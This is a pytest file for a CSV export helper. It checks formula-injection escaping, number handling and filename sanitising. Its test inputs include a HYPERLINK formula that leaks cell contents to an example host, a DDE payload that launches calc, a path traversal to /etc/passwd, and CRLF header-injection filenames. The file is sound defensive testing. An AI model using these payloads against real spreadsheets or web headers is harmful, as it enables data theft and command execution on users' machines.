"""The one CSV writer every export uses (sharewise.web.csv_export): a cell a spreadsheet
would run as a formula is written as text, a number stays a number, the file's name is
safe. The exports themselves are checked in test_small_numbers_pages.py (the dashboards)
and tests/training/test_training.py (the training report)."""

from __future__ import annotations

import csv
import io
import math
from decimal import Decimal

import pytest

from sharewise.web.csv_export import (
    FORMULA_STARTS,
    csv_response,
    safe_filename,
    spreadsheet_cell,
)

# What OWASP names, and the null character of ASVS 5.0 1.2.10.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")


def test_the_list_of_dangerous_starts_is_owasps() -> None:
    assert set(FORMULA_STARTS) == set(DANGEROUS)


@pytest.mark.parametrize("start", DANGEROUS)
def test_a_cell_starting_a_formula_is_written_as_text(start: str) -> None:
    payload = f'{start}HYPERLINK("https://example.org/?"&A1;"Click")'
    assert spreadsheet_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3, "-3"),
        (0, "0"),
        (20, "20"),
        (-3.5, "-3.5"),
        (Decimal("-3.25"), "-3.25"),
        # The figures of the dashboards' tables are text already.
        ("-3", "-3"),
        ("10.0", "10.0"),
        ("-0.5", "-0.5"),
    ],
)
def test_a_number_stays_a_number(value: object, written: str) -> None:
    assert spreadsheet_cell(value) == written


@pytest.mark.parametrize(
    "text",
    [
        "-3+1",
        "-1e5",
        "-3,4",
        "+3",
        "-",
        "--3",
        "-3.",
        "-.5",
        "-3 ",
        "-3\n=1+1",
        "-cmd|' /C calc'!A0",
    ],
)
def test_text_that_only_starts_like_a_number_is_escaped(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


def test_other_values() -> None:
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(True) == "True"
    assert spreadsheet_cell("Fewer than 5") == "Fewer than 5"
    assert spreadsheet_cell("'quoted already") == "'quoted already"
    # An infinity is no figure: "-inf" would be read as a formula.
    assert spreadsheet_cell(-math.inf) == "'-inf"
    assert spreadsheet_cell(Decimal("-Infinity")) == "'-Infinity"
    assert spreadsheet_cell(math.nan) == "nan"


def test_the_response_escapes_every_cell_and_the_csv_keeps_each_cell_whole() -> None:
    rows = [
        ["=1+1", -3, "a, b", 'say "hi"', "line\n=2+2"],
        ["@SUM(A1)", "-3", None, 4.5, "\tTAB"],
    ]
    response = csv_response(filename="export.csv", header=["+name", "score"], rows=rows)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'
    read = list(csv.reader(io.StringIO(response.content.decode())))
    assert read == [
        ["'+name", "score"],
        ["'=1+1", "-3", "a, b", 'say "hi"', "line\n=2+2"],
        ["'@SUM(A1)", "-3", "", "4.5", "'\tTAB"],
    ]
    # Every cell in the file starts safely, whatever a reader does with the quoting.
    for row in read:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "\0"))
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()


@pytest.mark.parametrize(
    ("asked", "given"),
    [
        (
            "sharewise-decisions-by-outcome-2026-01-01-2026-03-31.csv",
            "sharewise-decisions-by-outcome-2026-01-01-2026-03-31.csv",
        ),
        ("training-2026-11-23.csv", "training-2026-11-23.csv"),
        ('a"; filename=evil.exe', "a-filename-evil.exe.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ("report\r\nSet-Cookie: x=1.csv", "report-Set-Cookie-x-1.csv"),
        (".hidden.csv", "hidden.csv"),
        ("Ærøskøbing report.csv", "r-sk-bing-report.csv"),
        ("", "sharewise.csv"),
        ('"""', "sharewise.csv"),
    ],
)
def test_the_filename_is_safe(asked: str, given: str) -> None:
    assert safe_filename(asked) == given


def test_a_long_filename_is_cut_short_and_keeps_its_extension() -> None:
    name = safe_filename("x" * 500 + ".csv")
    assert name.endswith(".csv") and len(name) <= 130


def test_the_response_never_puts_an_unsafe_name_in_the_header() -> None:
    response = csv_response(filename='bad"\r\nname.csv', header=["a"], rows=[])
    assert response["Content-Disposition"] == 'attachment; filename="bad-name.csv"'
